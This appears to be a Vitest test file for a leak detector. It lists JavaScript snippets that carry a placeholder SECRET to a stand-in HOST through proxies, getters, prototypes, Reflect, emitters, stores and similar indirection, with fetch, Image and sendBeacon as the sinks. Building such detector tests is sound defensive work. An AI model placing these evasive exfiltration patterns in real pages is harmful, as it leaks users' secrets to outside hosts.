import { describe, test } from "vitest";
import {
	type DataFlow,
	expectHarmlessOnOwnSite,
	expectHarmlessWithoutSecret,
	expectLeak,
} from "../testing/data-flow-checks.ts";

const FLOWS: readonly DataFlow[] = [
	[
		"a proxy",
		`const all = new Proxy({}, { get: (_target, name) => name === "jar" && SECRET }); fetch("HOST/" + all.jar);`,
	],
	["a getter", `const bag = { get jar() { return SECRET; } }; const { jar } = bag; fetch("HOST/" + jar);`],
	["a setter", `const bag = { set jar(text) { fetch("HOST/" + text); } }; bag.jar = SECRET;`],
	[
		"a getter that was defined",
		`const bag = {}; Object.defineProperty(bag, "jar", { get: () => SECRET }); fetch("HOST/" + bag.jar);`,
	],
	[
		"a private field",
		`class Log { #kept = ""; static #to = "HOST"; add(text) { this.#kept += text; } flush() { fetch(Log.#to, { method: "POST", body: this.#kept }); } }
const log = new Log(); log.add(SECRET); log.flush();`,
	],
	[
		"a parent class",
		`class Base { constructor(to) { this.to = to; } send(text) { fetch(this.to + text); } } class Child extends Base { run() { super.send(SECRET); } } new Child("HOST/").run();`,
	],
	[
		"a constructor function with a prototype",
		`function Log(to) { this.to = to; } Log.prototype.send = function (text) { new Image().src = this.to + escape(text); }; new Log("HOST/?").send(SECRET);`,
	],
	["Reflect", `Reflect.apply(Reflect.get(window, "fetch"), window, ["HOST/" + SECRET]);`],
	["toString", `const bag = { toString() { return SECRET; } }; fetch("HOST/" + bag);`],
	[
		"toJSON",
		`const bag = { toJSON() { return SECRET; } }; fetch("HOST", { method: "POST", body: JSON.stringify(bag) });`,
	],
	[
		"an array as a queue",
		`const queue = { list: [], push(text) { this.list.push(text); return this; }, flush() { fetch("HOST", { method: "POST", body: JSON.stringify(this.list.splice(0)) }); } }; queue.push(SECRET).flush();`,
	],
	[
		"a redux-like store",
		`const createStore = (reduce, state) => { const seen = []; return { getState: () => state, dispatch: (action) => { state = reduce(state, action); seen.forEach((one) => one()); }, subscribe: (one) => seen.push(one) }; };
const store = createStore((state = [], { text }) => [...state, text], []);
store.subscribe(() => navigator.sendBeacon("HOST", store.getState().join(""))); store.dispatch({ text: SECRET });`,
	],
	[
		"an emitter",
		`class Emitter { constructor() { this.by = {}; } on(name, one) { (this.by[name] = this.by[name] || []).push(one); } emit(name, ...all) { (this.by[name] || []).forEach((one) => one(...all)); } }
const bus = new Emitter(); bus.on("x", (text) => fetch("HOST", { method: "POST", body: text })); bus.emit("x", SECRET);`,
	],
	[
		"injected services",
		`class Http { constructor(to) { this.to = to; } post(path, data) { return fetch(this.to + path, { method: "POST", body: JSON.stringify(data) }); } }
class App { constructor(http, read) { this.http = http; this.read = read; } async run() { await this.http.post("/sync", { text: this.read() }); } }
new App(new Http("HOST"), () => SECRET).run();`,
	],
	["a symbol as a name", `const key = Symbol("jar"); const bag = { [key]: SECRET }; fetch("HOST/" + bag[key]);`],
	["static blocks", `class Bag { static text; static { Bag.text = SECRET; } } fetch("HOST/" + Bag.text);`],
	[
		"new.target and return of an object",
		`function Bag() { return { text: SECRET }; } fetch("HOST/" + new Bag().text);`,
	],
];

describe("data through objects and classes", () => {
	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
		expectHarmlessWithoutSecret(code),
	);
	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
});
